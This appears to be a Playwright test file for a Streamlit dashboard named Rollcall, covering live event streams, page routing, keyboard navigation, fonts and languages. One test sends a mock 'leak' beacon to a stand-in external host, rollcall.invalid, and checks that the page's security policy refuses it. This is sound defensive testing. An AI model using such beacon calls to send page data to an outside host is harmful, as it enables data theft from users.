"""The skeleton in a browser: live, closed to the outside, usable with keys."""

import json
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from dashboard.pages import pages_for
from dashboard.views import PAGES
from dashboard.words import COMMON, words
from tests.support.screens import Running

EN = words("en", COMMON)
NAMES = [module.PAGE.name for module in pages_for("officer", PAGES)]
STAFF = [name for name in NAMES if name != "wall"]

SIX_FACES = "400 400 600 600 800 800"
"""Latin and extended Latin in three weights."""

PATIENCE_MS = 30_000

FIRST_MESSAGES = """async (count) => {
  const found = [];
  await new Promise((done) => {
    const source = new EventSource('/api/live/wall');
    source.onmessage = (message) => {
      found.push(message.data);
      if (found.length === count) { source.close(); done(); }
    };
  });
  return found;
}"""


def blank(page: Page, app: Running) -> None:
    """Open something of the app that is no Streamlit page."""
    page.goto(f"{app.url}/assets/rollcall.png")


def test_frames_arrive_one_after_the_other(page: Page, app: Running) -> None:
    blank(page, app)
    frames: list[dict[str, Any]] = [json.loads(text) for text in page.evaluate(FIRST_MESSAGES, 3)]
    numbers = [found["seq"] for found in frames]
    assert numbers == [numbers[0], numbers[0] + 1, numbers[0] + 2]
    assert {found["affected"] for found in frames} == {2}
    assert frames[0]["tick_age_s"] < frames[2]["tick_age_s"]


def test_a_paused_ticker_is_silent_and_goes_on(page: Page, app: Running) -> None:
    blank(page, app)
    app.pause_file.touch()
    try:
        page.evaluate(FIRST_MESSAGES, 1)
        held = page.evaluate(
            """async () => {
              const seq = async () => (await (await fetch('/api/live/wall/snapshot')).json()).seq;
              const before = await seq();
              await new Promise((done) => setTimeout(done, 2500));
              return (await seq()) - before;
            }"""
        )
    finally:
        app.pause_file.unlink()
    assert held <= 1
    assert len(page.evaluate(FIRST_MESSAGES, 3)) == 3


def test_the_browser_itself_refuses_another_host(page: Page, app: Running, watch: Any) -> None:
    blank(page, app)
    refused = page.evaluate(
        """async () => {
          const refusal = new Promise((done) => {
            document.addEventListener('securitypolicyviolation',
              (violation) => done(violation.effectiveDirective));
          });
          const got = await fetch('data:,still-allowed').then((answer) => answer.text());
          navigator.sendBeacon('https://rollcall.invalid/leak', 'x');
          return [got, await refusal];
        }"""
    )
    assert refused == ["still-allowed", "connect-src"]
    assert len(watch.found) == 1
    assert watch.found[0].startswith("console: Connecting to 'https://rollcall.invalid/leak' viol")
    watch.found.clear()


@pytest.mark.parametrize("name", STAFF)
def test_a_page_opens_by_its_address(page: Page, name: str) -> None:
    page.goto(f"/{name}")
    entry = page.get_by_role("link", name=EN[f"page_{name}"], exact=True)
    expect(entry).to_be_visible()
    expect(page).to_have_title(f"{EN[f'page_{name}']} · Rollcall")
    expect(page.get_by_label(EN["your_name"], exact=True)).to_be_visible()
    expect(page.get_by_test_id("stException")).to_have_count(0)
    expect(page.get_by_test_id("stMainMenu")).to_have_count(0)
    expect(page.get_by_test_id("stAppDeployButton")).to_have_count(0)


def test_the_navigation_is_reached_and_followed_with_keys(page: Page) -> None:
    page.goto(f"/{STAFF[0]}")
    other = next(name for name in NAMES if name != STAFF[0])
    wanted = page.get_by_role("link", name=EN[f"page_{other}"], exact=True)
    expect(wanted).to_be_visible()
    for _ in range(20):
        page.keyboard.press("Tab")
        if wanted.evaluate("link => link === document.activeElement"):
            break
    page.keyboard.press("Enter")
    expect(page).to_have_title(f"{EN[f'page_{other}']} · Rollcall")


def test_the_fonts_are_ours_in_every_weight(page: Page) -> None:
    page.goto(f"/{STAFF[0]}")
    expect(page.get_by_label(EN["your_name"], exact=True)).to_be_visible()
    # Streamlit writes its font faces anew while the page settles, so it is asked until it holds.
    loaded = page.evaluate(
        """async ([wanted, patience]) => {
          const until = performance.now() + patience;
          for (;;) {
            const fonts = [400, 600, 800].map((weight) => `${weight} 20px Inter`);
            await Promise.all(fonts.map((font) => document.fonts.load(font, 'aş')));
            const inter = [...document.fonts].filter((face) => face.family.includes('Inter'));
            const there = inter.filter((face) => face.status === 'loaded');
            const found = there.map((face) => face.weight).sort().join(' ');
            if (found === wanted || performance.now() > until) return found;
            await new Promise((again) => setTimeout(again, 100));
          }
        }""",
        [SIX_FACES, PATIENCE_MS],
    )
    assert loaded == SIX_FACES


def test_the_language_of_the_browser_is_spoken_until_another_is_chosen(page: Page) -> None:
    page.goto(f"/{STAFF[0]}?lang=de")
    expect(page.get_by_label(words("de", COMMON)["your_name"], exact=True)).to_be_visible()


def test_the_first_page_is_found_under_its_name_too(page: Page) -> None:
    page.goto(f"/{NAMES[0]}?lang=fr")
    title = words("fr", COMMON)[f"page_{NAMES[0]}"]
    expect(page).to_have_title(f"{title} · Rollcall")
    assert page.url.endswith("/?lang=fr")
